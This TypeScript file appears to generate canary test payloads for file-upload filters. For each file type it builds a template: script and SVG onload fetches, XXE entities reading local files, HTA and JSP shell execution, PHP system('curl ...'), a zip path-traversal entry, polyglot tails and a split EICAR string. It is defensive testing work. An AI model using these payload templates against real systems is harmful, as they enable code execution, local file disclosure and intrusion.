/** What a file that is run, rendered or unpacked by anything would do: ask for an address, or leave a mark. */
export interface Tell {
  readonly url: string
  readonly path: string
}

const text = (words: string) => Buffer.from(words, 'utf8')

/** What runs in browsers and on machines, by the ending it would have. None of it is a kind of file that is taken. */
export function programs({ url, path }: Tell): Readonly<Record<string, Buffer>> {
  const touch = `touch ${path}; curl ${url}`
  const script = `fetch("${url}")`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><image href="${url}"/></svg>`
  return {
    html: text(`<!doctype html><img src="${url}"><script>${script}</script>`),
    htm: text(`\n\t <HTML><body onload='${script}'>`),
    svg: text(svg),
    svgx: text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${url}">]>${svg}`),
    xhtml: text(
      `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></html>`,
    ),
    xml: text(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://${path}">]><x>&a;</x>`),
    xslt: text(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>`),
    hta: text(`<hta:application/><script>new ActiveXObject("WScript.Shell").Run("${touch}")</script>`),
    sh: text(`#!/bin/sh\n${touch}\n`),
    py: text(`#!/usr/bin/env python3\nopen("${path}","w")\n`),
    bat: text(`@ECHO OFF\r\ncopy nul ${path}\r\n`),
    php: text(`<?php touch("${path}"); ?>`),
    jsp: text(`<% Runtime.getRuntime().exec("${touch}"); %>`),
    exe: Buffer.concat([Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0]), Buffer.alloc(200)]),
    elf: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]),
    macho: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(200)]),
    class: Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]),
    wasm: Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    lnk: Buffer.concat([Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0]), Buffer.alloc(100)]),
    swf: Buffer.from([0x43, 0x57, 0x53, 10, 0, 0, 0, 0]),
    ole: Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]),
    zip: Buffer.concat([
      Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0]),
      Buffer.alloc(18),
      text(`../..${path}`),
    ]),
    jar: Buffer.concat([
      Buffer.from([0x50, 0x4b, 3, 4, 20, 0, 0, 0]),
      Buffer.alloc(18),
      text('META-INF/MANIFEST.MF'),
    ]),
    rar: Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 7, 1, 0]),
    '7z': Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4]),
    gz: Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]),
    bmp: Buffer.concat([text('BM'), Buffer.alloc(60, 0xff)]),
    tiff: Buffer.concat([Buffer.from([0x49, 0x49, 0x2a, 0]), Buffer.alloc(60)]),
    ico: Buffer.from([0, 0, 1, 0, 1, 0, 0, 0]),
    eps: text(`%!PS-Adobe-3.0 EPSF-3.0\n(${path}) (w) file closefile\0`),
  }
}

/** What stands behind the first bytes of a file that is taken, so that it is two things at once. */
export function tails({ url, path }: Tell): Readonly<Record<string, Buffer>> {
  return {
    page: text(`--><!doctype html><script>fetch("${url}")</script><img src="${url}">`),
    script: text(`*/=1;fetch("${url}");/*`),
    server: text(`<?php touch("${path}"); system("curl ${url}"); ?>`),
    action: text(`1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL("${url}"))>>>>endobj`),
  }
}

/** The standard harmless text that every virus scanner finds, in two parts, so that it is found in no file of ours. */
export const eicar = text(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
)
